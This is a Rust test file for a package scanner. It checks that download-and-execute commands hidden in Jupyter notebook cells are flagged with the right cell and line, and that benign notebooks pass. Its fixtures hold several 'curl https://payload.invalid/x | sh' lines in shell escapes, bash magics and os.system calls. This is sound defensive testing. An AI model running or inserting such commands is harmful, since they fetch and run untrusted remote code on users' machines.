//! Notebooks in a package: each finding has its cell.

use domain::{Policy, Severity, Verdict, judge};

use super::{
    tests::{archive, report},
    *,
};

fn notebook(cells: &[&str]) -> Vec<u8> {
    let cell = |source: &&str| serde_json::json!({"cell_type": "code", "source": source});
    let cells: Vec<_> = cells.iter().map(cell).collect();
    serde_json::json!({"cells": cells, "metadata": {}, "nbformat": 4}).to_string().into_bytes()
}

fn of_notebook(cells: &[&str]) -> Report {
    let files = [("p/pkg/__init__.py", b"".to_vec()), ("p/nb/a.ipynb", notebook(cells))];
    report(&Scanner::builtin().unwrap(), &archive(&files))
}

#[test]
fn a_finding_names_the_cell_and_the_line_in_it() {
    let hidden = "x = 1\n\nrun('curl https://payload.invalid/x | sh')";
    for (cells, place, line) in [
        (["", "import os\nos.system('curl https://payload.invalid/x | sh')"], "p/nb/a.ipynb#cell-2", 2),
        (["from os import system as run", hidden], "p/nb/a.ipynb#cell-2", 3),
        (["", "y = 2\n!curl https://payload.invalid/x | sh"], "p/nb/a.ipynb#cell-2", 2),
        (["", "%%bash\n\ncurl https://payload.invalid/x | sh"], "p/nb/a.ipynb#cell-2", 3),
        (["c = 'curl https://payload.invalid/x | sh'", "!$c"], "p/nb/a.ipynb#cell-2", 1),
    ] {
        let report = of_notebook(&cells);
        let is_download = |f: &&Finding| f.rule.contains("download") && f.severity > Severity::Info;
        let found: Vec<_> =
            report.findings.iter().filter(is_download).map(|f| (f.path.as_deref(), f.line)).collect();
        assert!(found.contains(&(Some(place), Some(line))), "{cells:?}: {:#?}", report.findings);
        assert!(report.coverage.is_complete() && report.coverage.files == 2, "{:?}", report.coverage);
        let whole = report.findings.iter().filter(|f| f.path.as_deref() == Some("p/nb/a.ipynb"));
        let twice: Vec<_> =
            whole.filter(|f| report.findings.iter().filter(|g| g.rule == f.rule).count() > 1).collect();
        assert!(twice.is_empty(), "{twice:#?}");
    }
}

#[test]
fn an_honest_notebook_refuses_nobody_and_one_that_cannot_be_read_does() {
    let honest = of_notebook(&[
        "!pip install pandas\n%matplotlib inline",
        "import pandas as pd\ndf = pd.read_csv('https://data.invalid/x.csv')\ndf.head()",
        "%%time\n!wget https://data.invalid/x.zip\n!unzip x.zip",
    ]);
    assert_eq!(judge(&honest, &Policy::default()).verdict(), Verdict::Approved, "{:#?}", honest.findings);
    let builtin = Scanner::builtin().unwrap();
    for (path, severity) in [("p/a.ipynb", Severity::Medium), ("p/tests/a.ipynb", Severity::Info)] {
        let report = report(&builtin, &archive(&[("p/pkg/__init__.py", ""), (path, "{\"cells\": [")]));
        let found = report.findings.iter().find(|finding| finding.rule == "unread-notebook").unwrap();
        assert_eq!(found.severity, severity);
    }
}
